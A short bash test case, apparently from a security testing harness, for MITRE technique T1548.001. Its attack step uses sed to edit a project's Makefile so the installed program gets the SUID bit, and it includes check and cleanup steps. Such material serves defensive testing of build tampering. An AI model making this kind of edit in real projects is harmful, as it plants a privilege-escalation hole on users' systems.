# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1548.001
about="install makes the built program SUID"
attack() {
	sed -i 's/install -m 755 program/install -m 4755 program/' $project/Makefile
	tell install
}
effect() { [ -u /srv/installed/program ]; }
after() { rm -f /srv/installed/program; }
